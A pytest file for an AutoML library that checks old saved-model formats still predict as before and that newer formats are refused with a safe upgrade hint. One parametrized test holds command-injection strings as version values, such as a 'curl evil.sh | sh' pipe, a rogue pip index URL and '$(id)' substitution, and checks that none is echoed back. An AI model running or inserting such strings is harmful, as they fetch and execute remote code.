"""Predictors that earlier versions wrote answer as they did then; later formats are refused."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from automl.cleaning.kinds import KINDS
from automl.cli import _run
from automl.errors import UnsafeModel
from automl.features.encoding import ENCODERS
from automl.models import FAMILIES
from automl.predictor import Predictor, load
from automl.predictor.archive import DIGEST_PREFIX, PREDICTOR_FORMAT, READ_FORMATS, loads
from tests.predictor.make_samples import answers
from tests.predictor.test_predictor import with_manifest

FOLDER = Path(__file__).with_name("samples")
SAMPLES = sorted(FOLDER.glob("*/*.automl"))
MAX_BYTES = 3_000_000
RELATIVE = 1e-6  # XGBoost itself, which answered in format 4, computes in single precision


def sample_name(path: Path) -> str:
    return f"{path.parent.name}/{path.stem}"


@pytest.mark.parametrize("path", SAMPLES, ids=sample_name)
def test_a_sample_answers_as_when_it_was_written(path: Path) -> None:
    expected = json.loads((path.parent / "expected.json").read_text(encoding="utf-8"))[path.stem]
    said = answers(load(path), path.parent / "table.csv")
    assert said.keys() == expected.keys()
    assert said["unknown"] == expected["unknown"]
    if isinstance(expected["predictions"][0], str):
        assert said["predictions"] == expected["predictions"]
    else:
        assert_alike(said["predictions"], expected["predictions"])
        assert_alike(said["interval"], expected["interval"])
    assert_alike(said["raw"], expected["raw"])
    for own, then in zip(said["members"], expected["members"], strict=True):
        assert_alike(own, then)


def assert_alike(numbers: Any, expected: Any) -> None:
    assert np.array(numbers) == pytest.approx(np.array(expected), rel=RELATIVE)


def test_every_format_that_is_read_has_samples_of_every_task_and_they_are_small() -> None:
    folders = {f"format-{number}" for number in READ_FORMATS}
    tasks = ("binary", "multiclass", "regression")
    assert {sample_name(path) for path in SAMPLES} == {
        f"{folder}/{task}" for folder in folders for task in tasks
    }
    sizes = [path.stat().st_size for path in FOLDER.rglob("*") if path.is_file()]
    assert sum(sizes) < MAX_BYTES


@pytest.mark.parametrize("number", READ_FORMATS)
def test_samples_of_a_format_hold_every_family_column_kind_and_encoder(number: int) -> None:
    predictors = [load(path) for path in SAMPLES if path.parent.name == f"format-{number}"]
    families = {member.family_name for each in predictors for member in each.members}
    assert families == {family.name for family in FAMILIES}
    encoders: set[str] = set()
    for each in predictors:
        for encoding in each.encodings.values():
            encoders |= {encoder.kind for encoder in encoding.encoders}
        assert kinds_of_columns(each) == {kind.name for kind in KINDS}
        assert each.cleaner.key_columns
        assert len(each.cleaner.second_rules) > 3
    assert encoders == set(ENCODERS)
    assert any(each.residuals is not None for each in predictors)
    assert any(each.thresholds is not None and each.temperature != 1 for each in predictors)


def kinds_of_columns(predictor: Predictor) -> set[str]:
    return {rule.kind for rule in predictor.cleaner.rules.values()}


def of_a_later_version(**change: Any) -> bytes:
    blob = (FOLDER / f"format-{PREDICTOR_FORMAT}" / "binary.automl").read_bytes()
    changed: dict[str, Any] = {
        "format": PREDICTOR_FORMAT + 1,
        "versions": {"automl-tabular": "7.8.9"},
        "members": "told in another way",
    }
    return with_manifest(blob, **{**changed, **change})


def test_a_later_format_names_the_version_that_reads_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "later.automl"
    path.write_bytes(of_a_later_version())
    table = FOLDER / f"format-{PREDICTOR_FORMAT}" / "table.csv"
    monkeypatch.setattr("sys.argv", ["automl", "predict", str(path), str(table)])
    assert _run() == 2
    told = capsys.readouterr()
    assert told.out == ""
    assert told.err.count("\n") == 1
    assert f"{path}: the model file has format {PREDICTOR_FORMAT + 1}; " in told.err
    assert "pip install 'automl-tabular>=7.8.9'" in told.err


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA])
def test_so_it_does_if_it_has_other_entries_or_other_packing(method: int) -> None:
    blob = of_a_later_version()
    stream = io.BytesIO(blob[: blob.rindex(DIGEST_PREFIX) - 2] + b"\0\0")
    with zipfile.ZipFile(stream, "a", method) as archive:
        archive.writestr("cells/0.bin", b"\1" * 500)
    body = stream.getvalue()[:-2]
    comment = DIGEST_PREFIX + hashlib.sha256(body).hexdigest().encode()
    with pytest.raises(UnsafeModel, match=rf"has format {PREDICTOR_FORMAT + 1}; .* pip install"):
        loads(body + len(comment).to_bytes(2, "little") + comment)


@pytest.mark.parametrize(
    "version",
    [
        "1'; curl evil.sh | sh #",
        "1 --index-url=http://evil",
        "1$(id)",
        "1`id`",
        "1\nid",
        "1\n",
        "",
        "evil",
        "٣.1",
        "1." + "0" * 50,
        None,
        ["1.0"],
    ],
)
def test_a_version_that_is_no_plain_one_is_not_told(version: Any) -> None:
    blob = of_a_later_version(versions={"automl-tabular": version})
    with pytest.raises(UnsafeModel, match=r"and 7\. It needs a newer version of automl$"):
        loads(blob)


@pytest.mark.parametrize("version", ["7", "7.8.9", "0.12.3rc1", "1.0.post2", "2026.11.30.dev0"])
def test_a_plain_version_is_told(version: str) -> None:
    blob = of_a_later_version(versions={"automl-tabular": version})
    with pytest.raises(UnsafeModel, match=rf"pip install 'automl-tabular>={version}'$"):
        loads(blob)


def test_a_long_format_is_cut() -> None:
    with pytest.raises(UnsafeModel, match=r"has format '9{19}; this version"):
        loads(of_a_later_version(format="9" * 500))


@pytest.mark.parametrize("number", [3, 0, -1, "6", None, True, 5.5, [5]])
def test_other_formats_are_refused_without_advice(number: Any) -> None:
    with pytest.raises(UnsafeModel, match=r"reads formats 4, 5, 6 and 7$"):
        loads(of_a_later_version(format=number))
